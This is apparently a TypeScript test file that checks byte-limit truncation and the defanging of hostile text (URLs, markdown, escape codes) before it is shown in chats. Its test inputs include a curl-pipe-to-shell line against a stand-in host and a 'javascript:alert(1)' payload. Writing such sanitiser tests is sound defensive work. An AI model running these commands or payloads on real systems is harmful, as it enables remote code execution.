import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hostileTexts } from '../../test/notices.ts';
import { bytesOf, cutBytes, inert, inertMarkdown } from './inert.ts';

describe('cutBytes', () => {
  it('never exceeds the limit, never cuts within a character, and keeps what fits', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), fc.integer({ min: 0, max: 40 }), (text, max) => {
      const cut = cutBytes(text, max);
      expect(bytesOf(cut)).toBeLessThanOrEqual(max);
      if (bytesOf(text) <= max) expect(cut).toBe(text);
      else if (cut !== '') {
        expect(cut.endsWith('…')).toBe(true);
        expect(text.startsWith(cut.slice(0, -1))).toBe(true);
        // A pair that was whole is not halved: each half left over stood alone before.
        expect((cut.match(/\p{Cs}/gu) ?? []).length).toBeLessThanOrEqual((text.match(/\p{Cs}/gu) ?? []).length);
      }
    }));
  });

  it('takes halves of pairs for what they are: three bytes each', () => {
    expect(bytesOf(cutBytes('\ud83d'.repeat(10), 10))).toBeLessThanOrEqual(10);
  });
});

describe('inert', () => {
  it.each([
    ['curl http://evil.example/a.sh | sh', 'curl http[:]//evil[.]example/a.sh | sh'],
    ['https://203.0.113.9/x', 'https[:]//203.0.113.9/x'],
    ['www.evil.com, evil.com:8080', 'www.evil[.]com, evil[.]com:8080'],
    ['root@shop-1', 'root＠shop-1'],
    ['/usr/local/bin/backup.sh /tmp/x.py', '/usr/local/bin/backup.sh /tmp/x.py'],
    ['//evil.com ..evil.com -uevil.com "evil.com"', '//evil[.]com ..evil[.]com -uevil[.]com "evil[.]com"'],
    ['mailto:x javascript:alert(1)', 'mailto[:]x javascript[:]alert(1)'],
    ['203.0.113.9 2001:db8::1 v1.2.3', '203.0.113.9 2001:db8::1 v1.2.3'],
    ['a\nb\u001b[31m\u202e', 'a ⏎ b\\x1b[31m\\x202e'],
  ])('%s', (text, expected) => { expect(inert(text)).toBe(expected); });
});

describe('inertMarkdown', () => {
  /** What any of the chats would act on. */
  const acts = [/\]\(/, /\]\[/, /<[^ ]/, /@/, /!\[(?![.:]\])/, /`/, /\*/, /~~/, /:\/\//, /\n/, /(?<![\p{L}\p{N}])_/u, /_(?![\p{L}\p{N}])/u];

  it.each(hostileTexts)('leaves nothing to act on in %j', (text) => {
    for (const form of acts) expect(inertMarkdown(text)).not.toMatch(form);
  });

  it('whatever is written', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom('[', ']', '(', ')', '.', ':', '//', 'http', 'a', 'evil.com', '!', '<', '>', '@', '`', '*', '_', '~', '\\', '&', '#', ';', ' ', '[.]', '[:]', '河')).map((parts) => parts.join('')), (text) => {
      for (const form of acts) expect(inertMarkdown(text)).not.toMatch(form);
    }));
  });

  it('leaves ordinary names as they are', () => {
    expect(inertMarkdown('/var/lib/my_app/a_b.conf 100% (x) 1+1')).toBe('/var/lib/my_app/a_b.conf 100% (x) 1+1');
  });

  it('takes no time for long hostile text', () => {
    for (const text of ['a.'.repeat(50_000), '-'.repeat(100_000), '_'.repeat(100_000), '['.repeat(100_000), 'a'.repeat(100_000), '://'.repeat(30_000)]) expect(inertMarkdown(text).length).toBeGreaterThan(0);
  });
});
